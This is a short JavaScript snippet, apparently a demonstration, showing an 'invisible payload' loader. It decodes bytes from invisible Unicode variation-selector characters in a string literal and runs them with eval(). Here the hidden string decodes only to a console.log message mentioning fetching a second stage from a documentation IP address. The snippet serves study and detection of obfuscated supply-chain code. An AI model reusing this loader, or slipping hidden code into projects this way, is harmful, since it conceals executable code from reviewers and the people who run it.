// Invisible payload: variation selectors carry bytes, decoded by code point and evaluated.
const s = (v) => [...v].map((c) => { const p = c.codePointAt(0); return p >= 0xfe00 && p <= 0xfe0f ? p - 0xfe00 : p >= 0xe0100 && p <= 0xe01ef ? p - 0xe0100 + 16 : null; }).filter((n) => n !== null);
const data = '󠅓󠅟󠅞󠅣󠅟󠅜󠅕󠄞󠅜󠅟󠅗󠄘󠄒󠅣󠅑󠅝󠅠󠅜󠅕󠄐󠅠󠅑󠅩󠅜󠅟󠅑󠅔󠄪󠄐󠅖󠅕󠅤󠅓󠅘󠄐󠅑󠅞󠅔󠄐󠅢󠅥󠅞󠄐󠅣󠅕󠅓󠅟󠅞󠅔󠄐󠅣󠅤󠅑󠅗󠅕󠄐󠅖󠅢󠅟󠅝󠄐󠄢󠄠󠄣󠄞󠄠󠄞󠄡󠄡󠄣󠄞󠄧󠄒󠄙';
eval(Buffer.from(s(data)).toString('utf-8'));
